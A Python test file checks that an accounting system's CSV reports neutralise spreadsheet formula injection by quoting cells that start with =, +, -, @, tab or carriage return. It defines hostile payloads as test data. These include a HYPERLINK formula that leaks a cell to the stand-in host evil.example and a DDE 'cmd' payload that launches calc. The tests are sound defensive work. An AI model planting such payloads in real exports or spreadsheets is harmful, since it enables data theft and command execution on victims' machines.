"""CSV reports carry no formulas (issue 11, item 5).

A counterparty named ``=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`` (it can
come in through an imported supplier DTE) was written raw into the auxiliary-balances CSV;
so were ``+cmd|' /C calc'!A0`` and ``@SUM(1)``. Here such text reaches the books through
the APIs (the worker's proposals, an account created over the public API) and every
report's CSV is read back: each text cell that starts with = + - @ tab or carriage return
has a single quote in front (OWASP), and the amounts stay numbers, negative ones too.
"""

import csv
import io
import re
from datetime import date

import pytest

from accounting.entrypoints.http.csv_output import FORMULA_STARTS, cell
from tests.integration.accounting.books_support import Books

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1)"
MINUS = "-2+3+cmd|' /C calc'!A0"
TABBED = "\t=1+1"
RETURNED = "\r=1+1"
HOSTILE = (HYPERLINK, CMD, SUM, MINUS, TABBED, RETURNED)

FORMULA_ACCOUNT = "310199"
NUMBER = re.compile(r"^-?\d+$")


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.text)))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would evaluate: what starts like a formula is a number."""
    for row in rows:
        for value in row:
            if value.startswith(FORMULA_STARTS):
                assert NUMBER.match(value), f"{value!r} would run as a formula: {row}"


def neutralised(text: str) -> str:
    return "'" + text


@pytest.fixture
async def books(client, services, rut) -> Books:
    """A company whose books hold hostile text in every column a report writes: an
    account name, a glosa, a line description, counterparty names and a hold reason."""
    books = await Books.connected(client, services, rut)
    account = await books.post("/accounts", json={"code": FORMULA_ACCOUNT, "name": SUM,
                                                  "type": "income"})
    assert account.status_code == 201, account.text

    sale = books.doc("sales", 33, 11, date(2024, 5, 6), net=100_000, name=HYPERLINK)
    purchase = books.doc("purchases", 33, 12, date(2024, 5, 7), net=50_000, name=CMD)
    held = books.doc("purchases", 33, 13, date(2024, 5, 8), net=10_000, name=TABBED)
    sync_id = await books.start_sync("2024-05-01", "2024-05-31")

    proposal = books.proposal(sync_id, sale)
    lines = [line.model_copy(update={"account_code": FORMULA_ACCOUNT, "description": MINUS})
             if line.role == "detail" else line for line in proposal.entry.lines]
    proposal = proposal.model_copy(update={"entry": proposal.entry.model_copy(
        update={"glosa": HYPERLINK, "lines": lines})})
    refused = books.proposal(sync_id, held).model_copy(
        update={"entry": None, "hold_reason": RETURNED})
    await books.send([proposal, books.proposal(sync_id, purchase), refused])
    await books.complete(sync_id, [sale, purchase, held])
    confirmed = await client.post(f"/v1/syncs/{sync_id}/confirm")
    assert confirmed.status_code == 200, confirmed.text
    return books


async def report_csv(books: Books, report: str, **params) -> list[list[str]]:
    response = await books.client.get(f"/v1/companies/{books.id}/reports/{report}",
                                      params={**params, "format": "csv"})
    rows = read_csv(response)
    assert_no_formula(rows)
    return rows


async def test_journal_csv(books):
    rows = await report_csv(books, "journal", **{"from": "2024-05-01", "to": "2024-05-31"})
    header, *lines = rows
    sale = [dict(zip(header, line, strict=True)) for line in lines
            if line[header.index("glosa")] == neutralised(HYPERLINK)]
    assert sale, rows
    detail = [x for x in sale if x["account_code"] == FORMULA_ACCOUNT]
    assert [(x["account_name"], x["description"]) for x in detail] == [
        (neutralised(SUM), neutralised(MINUS))]
    assert int(detail[0]["credit"]) == 100_000


async def test_ledger_csv(books):
    rows = await report_csv(books, "ledger", account=FORMULA_ACCOUNT)
    header, _opening, *lines = rows
    assert [line[header.index("glosa")] for line in lines] == [neutralised(HYPERLINK)]
    # Credits on an income account: a negative running balance, still a number.
    assert lines[0][header.index("balance")] == "-100000"


async def test_trial_balance_csv(books):
    header, *rows = await report_csv(books, "trial-balance")
    mine = [row for row in rows if row[0] == FORMULA_ACCOUNT]
    assert mine == [[FORMULA_ACCOUNT, neutralised(SUM), "0", "100000", "0", "100000", "0",
                     "-100000"]]


async def test_balance_tributario_csv(books):
    header, *rows = await report_csv(books, "balance-tributario", year=2024)
    mine = [row for row in rows if row[0] == FORMULA_ACCOUNT]
    # An income account's credit saldo is a ganancia.
    assert mine == [[FORMULA_ACCOUNT, neutralised(SUM), "0", "100000", "0", "100000", "0",
                     "0", "0", "100000"]]


async def test_auxiliary_balances_csv(books):
    header, *rows = await report_csv(books, "auxiliary-balances", account="110310")
    assert [row[header.index("name")] for row in rows] == [neutralised(HYPERLINK)]
    header, *rows = await report_csv(books, "auxiliary-balances", account="210210")
    assert [(row[header.index("name")], row[header.index("balance")]) for row in rows] == [
        (neutralised(CMD), "-59500")]


async def test_reconciliation_csv(books):
    header, *rows = await report_csv(books, "reconciliation", month="2024-05")
    differences = [dict(zip(header, row, strict=True)) for row in rows
                   if row[0] == "difference"]
    assert [(d["folio"], d["status"], d["reason"]) for d in differences] == [
        ("13", "held", neutralised(RETURNED))]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_like_a_formula_is_text(text):
    assert cell(text) == "'" + text


def test_numbers_and_other_text_are_left_as_they_are():
    assert [cell(v) for v in (-59_500, 0, 119_000, None, "Clientes", "'quoted", "2024-05-06",
                              "a=b", " =1")] == [
        -59_500, 0, 119_000, "", "Clientes", "'quoted", "2024-05-06", "a=b", " =1"]
